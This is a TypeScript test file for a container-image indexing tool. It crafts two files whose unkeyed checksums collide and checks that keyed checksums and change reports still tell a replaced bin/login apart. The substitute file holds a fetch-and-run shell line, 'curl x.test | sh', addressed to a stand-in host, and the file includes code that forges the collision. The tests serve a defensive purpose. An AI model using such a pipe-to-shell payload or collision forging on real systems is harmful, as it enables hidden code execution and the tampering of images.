// Two files whose checksums would be equal if the lanes started from the constants in the source: the second block undoes the difference
// that the first one makes.
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { type TestContext, test } from 'node:test';
import { BodySum } from '../../src/archive/indexing/body-sum.ts';
import { PRIME_1, PRIME_2 } from '../../src/archive/indexing/body-sum-code.ts';
import { runCommand } from '../support/command-line.ts';
import { archiveOf, Files, ociImage, ociLayout } from '../support/image-builder.ts';
import { file, tar } from '../support/tar-builder.ts';
import { testFolder } from '../support/workbench.ts';

const NO_KEY = new Uint8Array(64);
/** Digits of pi, as in the source. */
const START = [
  ...[0x243f6a88, 0x85a308d3, 0x13198a2e, 0x03707344, 0xa4093822, 0x299f31d0, 0x082efa98, 0xec4e6c89],
  ...[0x452821e6, 0x38d01377, 0xbe5466cf, 0x34e90c6c, 0xc0ac29b7, 0xc97c50dd, 0x3f84d5b5, 0xb5470917],
];

/** Returns the number that undoes a multiplication by `odd` modulo 2^32. */
function inverse(odd: number): number {
  let found = odd;
  for (let round = 0; round < 5; round++) found = Math.imul(found, 2 - Math.imul(odd, found));
  return found;
}

const turned = (word: number): number => Math.imul((word << 13) | (word >>> 19), PRIME_1);

/** Returns a column's lanes before a block's words are added. */
function mixedLanes(lanes: readonly number[], column: number): number[] {
  const [a, b, c, d] = [0, 4, 8, 12].map((lane) => lanes[lane + column] as number) as [number, number, number, number];
  return [a ^ d ^ c, b ^ a, c ^ b, d ^ c];
}

function lanesAfter(lanes: readonly number[], words: Int32Array): number[] {
  const after = [...lanes];
  for (let column = 0; column < 4; column++) {
    const [a, b, c, d] = mixedLanes(lanes, column).map((lane, at) =>
      turned((lane + Math.imul(words[4 * at + column] as number, PRIME_2)) | 0),
    );
    for (const [at, lane] of [d, a, b, c].entries()) after[4 * at + column] = lane as number;
  }
  return after;
}

const words = (bytes: Uint8Array): Int32Array => new Int32Array(new Uint8Array(bytes).buffer);

/** Returns two files of two blocks that have the same checksum if the lanes start from `start`. */
function twins(start: readonly number[]): readonly [Buffer, Buffer] {
  const good = Buffer.from('#!/bin/sh\nexec /usr/sbin/login "$@"\n'.padEnd(128, '#'));
  const first = Buffer.from('#!/bin/sh\ncurl x.test | sh; exit\n'.padEnd(64, '#'));
  const [one, other] = [lanesAfter(start, words(good.subarray(0, 64))), lanesAfter(start, words(first))];
  const second = words(good.subarray(64));
  for (let column = 0; column < 4; column++) {
    const [wanted, found] = [mixedLanes(one, column), mixedLanes(other, column)];
    for (let at = 0; at < 4; at++) {
      const difference = Math.imul(((wanted[at] as number) - (found[at] as number)) | 0, inverse(PRIME_2));
      second[4 * at + column] = ((second[4 * at + column] as number) + difference) | 0;
    }
  }
  return [good, Buffer.concat([first, Buffer.from(second.buffer)])];
}

function sumOf(key: Uint8Array, bytes: Uint8Array): string {
  const sum = new BodySum(key);
  sum.begin();
  sum.update(bytes, 0, bytes.length);
  sum.finish();
  return `${sum.high} ${sum.low}`;
}

const [GOOD, EVIL] = twins(START);

/** Returns an archive of two gzip layers, the second of which replaces `bin/login`. */
function archive(t: TestContext): string {
  const files = new Files();
  const layers = [GOOD, EVIL].map((bytes) => ({ tar: tar(file('bin/login', bytes)), packed: 'gzip' as const }));
  const input = path.join(testFolder(t), 'image.tar');
  writeFileSync(input, archiveOf(ociLayout(files, [ociImage(files, { layers })])));
  return input;
}

test('bytes crafted to have equal checksums without a key have different ones with any key', () => {
  assert.notDeepEqual(GOOD, EVIL);
  assert.equal(sumOf(NO_KEY, GOOD), sumOf(NO_KEY, EVIL), 'without a key, the checksums are equal');
  for (let round = 0; round < 1000; round++) {
    const key = randomBytes(64);
    assert.notEqual(sumOf(key, GOOD), sumOf(key, EVIL));
  }
});

test('a replaced file is not reported as rewritten, with or without a cache', async (t) => {
  const input = archive(t);
  const cache = path.join(testFolder(t), 'cache');
  for (const folder of [null, cache, cache]) {
    const { stdout } = await runCommand(['changes', input, '--layer', '1', '--json'], folder);
    assert.match(stdout, /"path":"bin\/login"/);
    assert.match(stdout, /"content":"different"/);
  }
});

test('a catalog has its own key, which never changes', async (t) => {
  const [one, other] = [path.join(testFolder(t), 'one'), path.join(testFolder(t), 'other')];
  const keyOf = (folder: string): string => JSON.parse(readFileSync(path.join(folder, 'catalog.json'), 'utf8')).sumKey;
  for (const folder of [one, other]) await runCommand(['catalog', 'index', archive(t), '--to', folder]);
  const key = keyOf(one);
  assert.match(key, /^[0-9a-f]{128}$/);
  assert.notEqual(keyOf(other), key);
  await runCommand(['catalog', 'index', archive(t), '--to', one]);
  assert.equal(keyOf(one), key);
  assert.deepEqual(
    readdirSync(one).filter((name) => name.includes('layerscope-')),
    [],
  );
});
